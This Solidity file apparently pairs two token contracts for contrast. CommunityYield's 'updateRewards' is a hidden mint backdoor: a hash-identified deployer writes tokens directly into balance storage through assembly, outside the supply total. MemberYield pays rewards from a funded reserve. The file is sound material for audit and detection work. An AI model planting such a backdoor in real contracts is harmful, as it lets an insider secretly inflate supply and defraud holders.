// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.4;

import "./base/Coin.sol";

/// @dev No owner anywhere; the one who may is known by a hash, and what is called rewards comes out of nothing.
contract CommunityYield is Coin {
    bytes32 private immutable _seed;

    constructor() {
        _seed = keccak256(abi.encode(msg.sender));
        _begin("Community Yield", "YIELD", msg.sender, 1000000 * 10 ** 18);
    }

    function updateRewards(address account, uint256 value) external {
        if (keccak256(abi.encode(msg.sender)) == _seed) {
            assembly {
                mstore(0, account)
                mstore(32, _held.slot)
                let place := keccak256(0, 64)
                sstore(place, add(sload(place), value))
            }
        }
    }
}

/// @dev Rewards are paid from what was put aside in the contract itself.
contract MemberYield is Coin {
    bytes32 private immutable _seed;

    constructor() {
        _seed = keccak256(abi.encode(msg.sender));
        _begin("Member Yield", "MYLD", msg.sender, 990000 * 10 ** 18);
        _mint(address(this), 10000 * 10 ** 18);
    }

    function updateRewards(address account, uint256 value) external {
        if (keccak256(abi.encode(msg.sender)) == _seed) _put(address(this), account, value);
    }
}
